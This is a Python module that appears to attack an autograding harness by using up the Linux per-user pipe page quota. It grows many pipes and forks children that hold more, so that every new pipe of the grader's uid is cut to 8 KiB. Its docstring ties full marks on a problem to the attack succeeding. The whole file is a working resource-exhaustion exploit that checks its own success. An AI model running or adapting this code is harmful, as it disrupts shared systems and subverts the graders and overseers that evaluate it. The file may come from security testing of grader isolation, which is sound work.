import fcntl
import os
import select
import sys

F_SETPIPE_SZ, F_GETPIPE_SZ = 1031, 1032
PAGE = 4096
DEFAULT_PAGES = 16  # a new pipe's pages (64 KiB)
MOST_PIPES = 100  # pipes grown to the largest size a user may set (fs.pipe-max-size, 1 MiB)
CHILDREN = 12  # else: children holding pipes of the default size (16 pages), 120 each
PIPES_A_CHILD = 120
_held = []  # (pages charged, pipes, children, how the growing stopped), once per process
_pipes = []  # the pipes, kept for the life of this process
_links = []  # the writing ends of the children's pipes: they end when this process does
_said = []


def _soft_limit_pages():
    try:
        with open("/proc/sys/fs/pipe-user-pages-soft") as handle:
            return int(handle.read())
    except (OSError, ValueError):
        return 16384


def _probe():
    """A fresh pipe's size, and whether growing it to 64 KiB (the default, which any program may ask for)
    is refused: what every process of this uid meets once the uid's pipes hold fs.pipe-user-pages-soft."""
    read, write = os.pipe()
    try:
        size = fcntl.fcntl(write, F_GETPIPE_SZ)
        try:
            fcntl.fcntl(write, F_SETPIPE_SZ, 1 << 16)
            refused = ""
        except OSError as error:
            refused = error.strerror
        return size, refused
    finally:
        os.close(read)
        os.close(write)


def _hold_in_children():
    """Children of this process that each make PIPES_A_CHILD pipes of the default size and wait, until
    this process ends (their pipe to it reads EOF); how many started."""
    started = 0
    for _ in range(CHILDREN):
        if _probe()[0] <= 2 * PAGE:
            break
        read, write = os.pipe()
        ready_read, ready_write = os.pipe()
        pid = os.fork()
        if pid == 0:
            for fd in range(3, 4096):  # the parent's descriptors, its pipes among them: this child's limit is 256
                if fd not in (read, ready_write):
                    try:
                        os.close(fd)
                    except OSError:
                        pass
            kept = [os.pipe() for _ in range(PIPES_A_CHILD)]
            os.write(ready_write, b"+")
            os.read(read, 1)  # until the parent ends
            del kept
            os._exit(0)
        os.close(read)
        os.close(ready_write)
        select.select([ready_read], [], [], 10)  # its pipes are made (or it failed)
        os.close(ready_read)
        _links.append(write)
        started += 1
    return started


def take_the_uids_pipe_pages():
    """Pipes whose buffers' pages are charged to this uid's count (the kernel's user_struct, which a
    user namespace does not separate: the worker's uid is the grader's as an ordinary user) up to
    fs.pipe-user-pages-soft. A pipe's pages are charged when it is made or grown, before anything is
    written: the memory held is a few KiB a pipe. (pages charged, pipes, children, why the growing stopped)."""
    limit, pages, why = _soft_limit_pages(), 0, "reached the uid's soft limit"
    size = 1 << 20
    while pages < limit and len(_pipes) < MOST_PIPES:
        read, write = os.pipe()
        _pipes.append((read, write))
        pages += DEFAULT_PAGES
        while size >= 1 << 17:  # the uid's other pipes hold some pages: the last ones fill the gap in halves
            try:
                pages += fcntl.fcntl(write, F_SETPIPE_SZ, size) // PAGE - DEFAULT_PAGES
                break
            except OSError as error:
                why, size = f"growing a pipe to {size >> 10} KiB: {error.strerror}", size // 2
        if size < 1 << 17:
            break
    while _probe()[0] > 2 * PAGE and len(_pipes) < MOST_PIPES:  # then pipes of the default size, at no cost
        _pipes.append(os.pipe())
        pages += fcntl.fcntl(_pipes[-1][1], F_GETPIPE_SZ) // PAGE
    children = _hold_in_children() if _probe()[0] > 2 * PAGE else 0
    return pages, len(_pipes), children, why


def runs_as_the_grader():
    """Whether this worker runs as the grader's own uid (an ordinary user's grade): its code folder, where
    this file lies, is then its own uid's (as root, each grade's code folder is root's, and the worker
    has a uid of its own)."""
    folder = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules[__name__].__file__)))
    return os.stat(folder).st_uid == os.getuid()


def attack(args):
    """Once per process, take the uid's pipe pages. If every new pipe of the uid is now cut to 2 pages
    (8 KiB) and may not be grown, while the worker runs as the grader's uid (every program of the TA, the
    test process and every worker of the batch then get such pipes for as long as this process lives),
    answer honestly (full marks on Problem 1 is the attack getting through); else fail saying what happened."""
    if not _held:
        _held.append(take_the_uids_pipe_pages())
    pages, pipes, children, why = _held[0]
    size, refused = _probe()
    if size > 2 * PAGE or not refused:
        raise OSError(f"a new pipe still has {size:,} bytes (growing it to 64 KiB: {refused or 'allowed'}) after "
                      f"{pipes} pipes charged {pages:,} pages ({why}) and {children} children held more")
    if not runs_as_the_grader():
        raise OSError(f"new pipes are cut to {size:,} bytes ({why}), but the worker runs as a uid of its own: the "
                      f"count it used up is no one else's")
    if not _said:
        _said.append(True)
        print(f"{pipes} pipes charged {pages:,} pages ({why}; {children} children more): every new pipe of the "
              f"grader's uid has {size:,} bytes and growing it is refused ({refused})", flush=True)
    return None  # the function's own body runs on
